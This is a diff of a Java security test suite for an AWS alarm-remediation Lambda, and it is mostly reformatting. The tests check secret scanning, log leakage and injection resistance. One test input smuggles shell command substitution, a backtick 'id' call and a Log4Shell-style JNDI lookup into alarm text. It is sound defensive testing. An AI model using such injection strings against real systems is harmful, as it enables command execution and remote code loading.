@@ -32,7 +32,6 @@ import java.util.List;
 import java.util.Map;
 import java.util.Set;
 import java.util.concurrent.CopyOnWriteArrayList;
-import java.util.regex.Pattern;
 import java.util.stream.Stream;
 import org.apache.logging.log4j.Level;
 import org.apache.logging.log4j.LogManager;
@@ -63,7 +62,10 @@ class SecurityTest {
     return SecretScan.findings(text);
   }
 
-  /** Every log event (root logger, all levels enabled for the SDK's request logger) plus stdout/stderr. */
+  /**
+   * Every log event (root logger, all levels enabled for the SDK's request logger) plus
+   * stdout/stderr.
+   */
   static final class Capture implements AutoCloseable {
     final StringWriter logs = new StringWriter();
     final ByteArrayOutputStream std = new ByteArrayOutputStream();
@@ -74,9 +76,16 @@ class SecurityTest {
     Capture() {
       LoggerContext ctx = (LoggerContext) LogManager.getContext(false);
       Configuration config = ctx.getConfiguration();
-      appender = WriterAppender.newBuilder().setName("security-capture").setTarget(logs)
-          .setLayout(PatternLayout.newBuilder().withPattern("%p %c %m %X %throwable%n")
-              .withConfiguration(config).build()).build();
+      appender =
+          WriterAppender.newBuilder()
+              .setName("security-capture")
+              .setTarget(logs)
+              .setLayout(
+                  PatternLayout.newBuilder()
+                      .withPattern("%p %c %m %X %throwable%n")
+                      .withConfiguration(config)
+                      .build())
+              .build();
       appender.start();
       config.getRootLogger().addAppender(appender, null, null);
       config.getLoggerConfig("com.tradai").addAppender(appender, null, null);
@@ -110,8 +119,12 @@ class SecurityTest {
 
     @Override
     public void beforeExecution(Context.BeforeExecution context, ExecutionAttributes a) {
-      seen.add(a.getAttribute(SdkExecutionAttribute.SERVICE_NAME) + ":"
-          + a.getAttribute(SdkExecutionAttribute.OPERATION_NAME) + " " + context.request());
+      seen.add(
+          a.getAttribute(SdkExecutionAttribute.SERVICE_NAME)
+              + ":"
+              + a.getAttribute(SdkExecutionAttribute.OPERATION_NAME)
+              + " "
+              + context.request());
     }
   }
 
@@ -125,9 +138,12 @@ class SecurityTest {
     return v;
   }
 
-  private static RemediationHandler handler(Map<String, String> vars, ExecutionInterceptor... interceptors) {
+  private static RemediationHandler handler(
+      Map<String, String> vars, ExecutionInterceptor... interceptors) {
     Config config = Config.from(vars);
-    return new RemediationHandler(config, new AwsClients(config, List.of(interceptors), Duration.ofMillis(5)),
+    return new RemediationHandler(
+        config,
+        new AwsClients(config, List.of(interceptors), Duration.ofMillis(5)),
         Clock.systemUTC());
   }
 
@@ -147,7 +163,8 @@ class SecurityTest {
     assertThat(findings("k ASIA" + "ABCDEFGHIJKLMNOP")).hasSize(1);
     assertThat(findings("s=" + SECRET)).hasSize(1);
     assertThat(findings("t " + TOKEN)).hasSize(1);
-    assertThat(findings("Authorization: AWS4-HMAC-SHA256 Credential=" + KEY_ID + "/2026")).hasSize(3);
+    assertThat(findings("Authorization: AWS4-HMAC-SHA256 Credential=" + KEY_ID + "/2026"))
+        .hasSize(3);
     assertThat(findings("remediated tradai-backend-dev 2 → 3")).isEmpty();
   }
 
@@ -161,27 +178,55 @@ class SecurityTest {
     String captured;
     List<String> outcomes = new ArrayList<>();
     try (DemoEnvironment env = new DemoEnvironment(moto.endpoint(), "dev").seed(2, 512, 1024);
-        CborCloudWatch cw = cloudWatch(); Capture capture = new Capture()) {
+        CborCloudWatch cw = cloudWatch();
+        Capture capture = new Capture()) {
       byte[] alarm = Resources.bytes("/events/sns-api-latency-alarm.json");
       Map<String, String> vars = vars(env, cw);
       Map<String, String> dry = new HashMap<>(vars);
       dry.put("DRY_RUN", "true");
-      outcomes.add(handler(dry).handle(Resources.bytes("/events/alarm-action-api-latency-alarm.json")).outcome().name());
-      byte[] next = Resources.text("/events/sns-api-latency-alarm.json")
-          .replace("2026-11-27T10:15:00.000", "2026-11-27T10:15:00.001").getBytes(StandardCharsets.UTF_8);
-      outcomes.add(handler(vars, FaultInjector.persistent("Ecs:UpdateService", FaultInjector.Kind.THROTTLE))
-          .handle(next).outcome().name());
+      outcomes.add(
+          handler(dry)
+              .handle(Resources.bytes("/events/alarm-action-api-latency-alarm.json"))
+              .outcome()
+              .name());
+      byte[] next =
+          Resources.text("/events/sns-api-latency-alarm.json")
+              .replace("2026-11-27T10:15:00.000", "2026-11-27T10:15:00.001")
+              .getBytes(StandardCharsets.UTF_8);
+      outcomes.add(
+          handler(vars, FaultInjector.persistent("Ecs:UpdateService", FaultInjector.Kind.THROTTLE))
+              .handle(next)
+              .outcome()
+              .name());
       outcomes.add(handler(vars).handle(alarm).outcome().name());
-      outcomes.add(handler(vars).handle(Resources.bytes("/events/eventbridge-api-latency-alarm.json")).outcome().name());
+      outcomes.add(
+          handler(vars)
+              .handle(Resources.bytes("/events/eventbridge-api-latency-alarm.json"))
+              .outcome()
+              .name());
       Config operatorConfig = Config.from(vars);
-      outcomes.add(new OperatorHandler(operatorConfig, new AwsClients(operatorConfig, List.of(), Duration.ofMillis(5)),
-          Clock.systemUTC()).handle("{\"command\":\"list-actions\"}".getBytes(StandardCharsets.UTF_8)).outcome().name());
-      outcomes.add(handler(vars).handle("{\"Records\":[{\"Sns\":{\"Message\":\"{\\\"AlarmName\\\":1}\"}}]}"
-          .getBytes(StandardCharsets.UTF_8)).outcome().name());
-      byte[] third = Resources.text("/events/sns-api-latency-alarm.json")
-          .replace("2026-11-27T10:15:00.000", "2026-11-27T10:15:00.002").getBytes(StandardCharsets.UTF_8);
+      outcomes.add(
+          new OperatorHandler(
+                  operatorConfig,
+                  new AwsClients(operatorConfig, List.of(), Duration.ofMillis(5)),
+                  Clock.systemUTC())
+              .handle("{\"command\":\"list-actions\"}".getBytes(StandardCharsets.UTF_8))
+              .outcome()
+              .name());
+      outcomes.add(
+          handler(vars)
+              .handle(
+                  "{\"Records\":[{\"Sns\":{\"Message\":\"{\\\"AlarmName\\\":1}\"}}]}"
+                      .getBytes(StandardCharsets.UTF_8))
+              .outcome()
+              .name());
+      byte[] third =
+          Resources.text("/events/sns-api-latency-alarm.json")
+              .replace("2026-11-27T10:15:00.000", "2026-11-27T10:15:00.002")
+              .getBytes(StandardCharsets.UTF_8);
       try {
-        handler(vars, FaultInjector.persistent("Sns:Publish", FaultInjector.Kind.TIMEOUT)).handle(third);
+        handler(vars, FaultInjector.persistent("Sns:Publish", FaultInjector.Kind.TIMEOUT))
+            .handle(third);
         outcomes.add("returned");
       } catch (RuntimeException e) {
         outcomes.add("threw");
@@ -189,11 +234,15 @@ class SecurityTest {
       }
       captured = capture.text();
     }
-    assertThat(outcomes).containsExactly("DRY_RUN", "FAILED", "REMEDIATED", "BLOCKED", "RECORDED_OK",
-        "REJECTED", "threw");
+    assertThat(outcomes)
+        .containsExactly(
+            "DRY_RUN", "FAILED", "REMEDIATED", "BLOCKED", "RECORDED_OK", "REJECTED", "threw");
     // the capture saw the run: the SDK's request log, the shell's log lines, the stack trace
-    assertThat(captured).contains("Sending Request").contains("api-latency: High API Latency: Load spike")
-        .contains("SdkClientException").contains("Read timed out (injected)");
+    assertThat(captured)
+        .contains("Sending Request")
+        .contains("api-latency: High API Latency: Load spike")
+        .contains("SdkClientException")
+        .contains("Read timed out (injected)");
     assertThat(findings(captured)).isEmpty();
   }
 
@@ -201,7 +250,8 @@ class SecurityTest {
     JsonNode event = Json.MAPPER.readTree(Resources.bytes("/events/sns-api-latency-alarm.json"));
     ObjectNode sns = (ObjectNode) event.path("Records").get(0).path("Sns");
     ObjectNode message = (ObjectNode) Json.MAPPER.readTree(sns.path("Message").asText());
-    String hostile = MARK + " $(touch /tmp/" + MARK + "); `id` ${jndi:ldap://x/" + MARK + "} @channel <!here>";
+    String hostile =
+        MARK + " $(touch /tmp/" + MARK + "); `id` ${jndi:ldap://x/" + MARK + "} @channel <!here>";
     message.put("AlarmDescription", hostile);
     message.put("NewStateReason", "Threshold Crossed " + hostile);
     sns.put("Message", Json.MAPPER.writeValueAsString(message));
@@ -212,8 +262,9 @@ class SecurityTest {
    * Alarm text (description and reason, with shell, lookup and mention syntax) carries a marker: no
    * ECS, CloudWatch or SSM request names it (the fix's target comes from the function's
    * configuration), the fix lands on the configured service, and no EMF document carries it
-   * (dimensions are Environment, Runbook and Outcome only). Not covered here: the alarm's own metric
-   * dimensions (e.g. its LoadBalancer) are read back as GetMetricData query dimensions, by design.
+   * (dimensions are Environment, Runbook and Outcome only). Not covered here: the alarm's own
+   * metric dimensions (e.g. its LoadBalancer) are read back as GetMetricData query dimensions, by
+   * design.
    */
   @Test
   void alarmTextNeverNamesAResourceOrAMetricDimension(MotoServer moto) throws Exception {
@@ -235,12 +286,20 @@ class SecurityTest {
       assertThat(env.desiredCount("tradai-backend-dev")).as(report.summary()).isEqualTo(3);
     }
     assertThat(report.outcome().name()).isEqualTo("REMEDIATED");
-    assertThat(report.changes()).singleElement().satisfies(c -> assertThat(c.target()).isEqualTo("tradai-backend-dev"));
-    List<String> resourceCalls = requests.seen.stream()
-        .filter(r -> r.startsWith("Ecs:") || r.startsWith("CloudWatch:") || r.startsWith("Ssm:")).toList();
+    assertThat(report.changes())
+        .singleElement()
+        .satisfies(c -> assertThat(c.target()).isEqualTo("tradai-backend-dev"));
+    List<String> resourceCalls =
+        requests.seen.stream()
+            .filter(
+                r -> r.startsWith("Ecs:") || r.startsWith("CloudWatch:") || r.startsWith("Ssm:"))
+            .toList();
     assertThat(resourceCalls).isNotEmpty().noneMatch(r -> r.contains(MARK));
-    assertThat(requests.seen).filteredOn(r -> r.startsWith("CloudWatch:GetMetricData"))
-        .singleElement().asString().contains("app/tradai-dev/50dc6c495c0c9188");
+    assertThat(requests.seen)
+        .filteredOn(r -> r.startsWith("CloudWatch:GetMetricData"))
+        .singleElement()
+        .asString()
+        .contains("app/tradai-dev/50dc6c495c0c9188");
 
     List<JsonNode> emf = new ArrayList<>();
     for (String line : stdout.lines().toList()) {
@@ -252,27 +311,41 @@ class SecurityTest {
     Set<String> allowed = Set.of("Environment", "Runbook", "Outcome");
     for (JsonNode doc : emf) {
       assertThat(doc.toString()).doesNotContain(MARK);
-      doc.path("_aws").path("CloudWatchMetrics").forEach(m -> m.path("Dimensions").forEach(set ->
-          set.forEach(d -> assertThat(d.asText()).isIn(allowed))));
+      doc.path("_aws")
+          .path("CloudWatchMetrics")
+          .forEach(
+              m ->
+                  m.path("Dimensions")
+                      .forEach(set -> set.forEach(d -> assertThat(d.asText()).isIn(allowed))));
       assertThat(doc.path("Environment").asText()).isEqualTo("dev");
     }
   }
 
-  /** Nothing in the Lambda code starts a process (moto_server and the benchmark are local tooling): no shell argument exists. */
+  /**
+   * Nothing in the Lambda code starts a process (moto_server and the benchmark are local tooling):
+   * no shell argument exists.
+   */
   @Test
   void noProcessIsStartedOutsideTheLocalCli() throws IOException {
     Path main = Path.of("src/main/java/com/tradai/remediation");
     List<String> offenders;
     try (Stream<Path> files = Files.walk(main)) {
-      offenders = files.filter(f -> f.toString().endsWith(".java"))
-          .filter(f -> {
-            try {
-              String s = Files.readString(f);
-              return s.contains("ProcessBuilder") || s.contains(".exec(") || s.contains("Runtime.getRuntime()");
-            } catch (IOException e) {
-              throw new java.io.UncheckedIOException(e);
-            }
-          }).map(Path::toString).toList();
+      offenders =
+          files
+              .filter(f -> f.toString().endsWith(".java"))
+              .filter(
+                  f -> {
+                    try {
+                      String s = Files.readString(f);
+                      return s.contains("ProcessBuilder")
+                          || s.contains(".exec(")
+                          || s.contains("Runtime.getRuntime()");
+                    } catch (IOException e) {
+                      throw new java.io.UncheckedIOException(e);
+                    }
+                  })
+              .map(Path::toString)
+              .toList();
     }
     assertThat(offenders).isEmpty();
   }
